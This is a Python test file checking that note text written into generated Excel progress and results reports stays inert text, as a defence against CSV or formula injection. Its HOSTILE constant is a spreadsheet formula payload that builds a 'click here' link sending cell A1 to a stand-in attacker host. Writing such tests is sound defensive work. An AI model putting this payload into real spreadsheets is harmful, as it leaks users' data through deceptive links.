"""Text from data never becomes a live formula in a workbook or a CSV (OWASP CSV injection)."""

from __future__ import annotations

import dataclasses
from decimal import Decimal
from io import BytesIO

from openpyxl import load_workbook

from chitieu.catalog.model import Catalogue, Figure, FigureStatus
from chitieu.catalog.period import Period
from chitieu.reports.model import ReportHeading, TaskNote
from chitieu.reports.progress import progress_report
from chitieu.reports.results import results_from_catalogue
from chitieu.reports.xlsx_progress import progress_xlsx
from chitieu.reports.xlsx_writer import results_xlsx
from tests.reports.appendix import TABLES

HOSTILE = '=HYPERLINK("http://ke-xau.invalid/?"&A1,"Bấm vào đây")'
HEADING = ReportHeading(issuer="ỦY BAN NHÂN DÂN", place="Nơi A", title="Báo cáo")


def _cells(data: bytes) -> list[tuple[str, object]]:
    book = load_workbook(BytesIO(data))
    return [(c.data_type, c.value) for s in book.worksheets for r in s.iter_rows() for c in r]


def test_a_task_note_starting_with_equals_is_text_in_the_progress_workbook(
    catalogue: Catalogue,
) -> None:
    figure = Figure(
        "kt.grdp.quy_mo", "hung_yen", Period.year_of(2026), Decimal("1"), FigureStatus.OFFICIAL
    )
    report = progress_report(catalogue, (figure,), 2026, charts=False)
    task = TaskNote(number="1", heading=HOSTILE, kind="Nhiệm vụ", indicators="", note=HOSTILE)
    report = dataclasses.replace(report, tasks=(task,))
    cells = _cells(progress_xlsx(report, HEADING))
    assert ("s", HOSTILE) in cells
    assert not [value for kind, value in cells if kind == "f"]


def test_a_note_starting_with_equals_is_text_in_the_results_workbook(catalogue: Catalogue) -> None:
    table = results_from_catalogue(catalogue, TABLES["1A"])
    table = dataclasses.replace(table, notes=(HOSTILE,))
    cells = _cells(results_xlsx(table, HEADING))
    assert ("s", HOSTILE) in cells
    assert not [value for kind, value in cells if kind == "f"]
